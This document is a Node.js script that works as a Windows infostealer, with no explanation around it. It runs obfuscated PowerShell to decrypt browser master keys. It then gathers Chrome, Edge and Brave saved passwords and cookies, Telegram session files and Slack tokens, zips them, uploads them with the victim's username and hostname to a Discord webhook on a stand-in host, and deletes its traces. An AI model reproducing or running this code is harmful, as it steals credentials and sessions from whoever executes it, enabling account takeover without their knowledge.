const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'), https = require('https');
if (process.platform !== 'win32') process.exit(0);
const L = process.env.LOCALAPPDATA, R = process.env.APPDATA, T = path.join(os.tmpdir(), 'sb' + process.pid);
fs.mkdirSync(T, { recursive: true });
const files = [];
let keys = '{}';
try { keys = cp.execSync('powershell -NoP -NonI -W Hidden -enc QQBkAGQALQBUAHkAcABlACAALQBBAHMAcwBlAG0AYgBsAHkATgBhAG0AZQAgAFMAeQBzAHQAZQBtAC4AUwBlAGMAdQByAGkAdAB5AAoAJABvAD0AQAB7AH0ACgBmAG8AcgBlAGEAYwBoACgAJABiACAAaQBuACAAQAAoACIARwBvAG8AZwBsAGUAXABDAGgAcgBvAG0AZQAiACwAIgBNAGkAYwByAG8AcwBvAGYAdABcAEUAZABnAGUAIgAsACIAQgByAGEAdgBlAFMAbwBmAHQAdwBhAHIAZQBcAEIAcgBhAHYAZQAtAEIAcgBvAHcAcwBlAHIAIgApACkAewAKACAAJABsAHMAPQAiACQAZQBuAHYAOgBMAE8AQwBBAEwAQQBQAFAARABBAFQAQQBcACQAYgBcAFUAcwBlAHIAIABEAGEAdABhAFwATABvAGMAYQBsACAAUwB0AGEAdABlACIACgAgAGkAZgAoAFQAZQBzAHQALQBQAGEAdABoACAAJABsAHMAKQB7AAoAIAAgACQAawA9ACgARwBlAHQALQBDAG8AbgB0AGUAbgB0ACAAJABsAHMAIAAtAFIAYQB3AHwAQwBvAG4AdgBlAHIAdABGAHIAbwBtAC0ASgBzAG8AbgApAC4AbwBzAF8AYwByAHkAcAB0AC4AZQBuAGMAcgB5AHAAdABlAGQAXwBrAGUAeQAKACAAIAAkAHIAYQB3AD0AWwBDAG8AbgB2AGUAcgB0AF0AOgA6AEYAcgBvAG0AQgBhAHMAZQA2ADQAUwB0AHIAaQBuAGcAKAAkAGsAKQAKACAAIAAkAG0AawA9AFsAUwBlAGMAdQByAGkAdAB5AC4AQwByAHkAcAB0AG8AZwByAGEAcABoAHkALgBQAHIAbwB0AGUAYwB0AGUAZABEAGEAdABhAF0AOgA6AFUAbgBwAHIAbwB0AGUAYwB0ACgAJAByAGEAdwBbADUALgAuACgAJAByAGEAdwAuAEwAZQBuAGcAdABoAC0AMQApAF0ALAAkAG4AdQBsAGwALAAnAEMAdQByAHIAZQBuAHQAVQBzAGUAcgAnACkACgAgACAAJABvAFsAJABiAF0APQBbAEMAbwBuAHYAZQByAHQAXQA6ADoAVABvAEIAYQBzAGUANgA0AFMAdAByAGkAbgBnACgAJABtAGsAKQAKACAAfQAKAH0ACgAkAG8AfABDAG8AbgB2AGUAcgB0AFQAbwAtAEoAcwBvAG4AIAAtAEMAbwBtAHAAcgBlAHMAcwA=', { windowsHide: true, stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch (e) {}
fs.writeFileSync(path.join(T, 'keys.json'), keys); files.push('keys.json');
for (const [n, b] of [['chrome', 'Google\\Chrome'], ['edge', 'Microsoft\\Edge'], ['brave', 'BraveSoftware\\Brave-Browser']]) {
  for (const f of ['Login Data', 'Cookies', 'Network\\Cookies', 'Web Data']) {
    const s = path.join(L, b, 'User Data', 'Default', f);
    try { const d = n + '_' + path.basename(f).replace(/ /g, '_'); fs.copyFileSync(s, path.join(T, d)); files.push(d); } catch (e) {}
  }
}
const tg = path.join(R, 'Telegram Desktop', 'tdata');
try { for (const f of fs.readdirSync(tg)) { const p = path.join(tg, f); if (fs.statSync(p).isFile() && fs.statSync(p).size < 512000 && (/^[A-F0-9]{16}s?$/.test(f) || f === 'key_datas')) { fs.copyFileSync(p, path.join(T, 'tg_' + f)); files.push('tg_' + f); } } } catch (e) {}
for (const f of ['Cookies', 'Network\\Cookies', 'storage\\slack-downloads', 'Local Storage\\leveldb\\000003.log']) { try { const d = 'slack_' + path.basename(f); fs.copyFileSync(path.join(R, 'Slack', f), path.join(T, d)); files.push(d); } catch (e) {} }
try { cp.execSync(`tar -a -c -f "${T}.zip" -C "${T}" *`, { windowsHide: true, stdio: 'ignore' }); } catch (e) {}
const zip = T + '.zip';
if (!fs.existsSync(zip)) process.exit(0);
const bd = '----sb' + Date.now();
const body = Buffer.concat([Buffer.from(`--${bd}\r\nContent-Disposition: form-data; name="payload_json"\r\n\r\n{"content":"${os.userInfo().username}@${os.hostname()}"}\r\n--${bd}\r\nContent-Disposition: form-data; name="file"; filename="${os.hostname()}.zip"\r\nContent-Type: application/zip\r\n\r\n`), fs.readFileSync(zip), Buffer.from(`\r\n--${bd}--\r\n`)]);
const r = https.request({ host: 'discord.example', path: '/api/webhooks/1187342290177466420/Xq2fAkeWebhookTokenZr7vYp0aLmN3', method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=' + bd, 'Content-Length': body.length } }, () => { try { fs.rmSync(T, { recursive: true, force: true }); fs.unlinkSync(zip); } catch (e) {} });
r.on('error', () => {}); r.end(body);
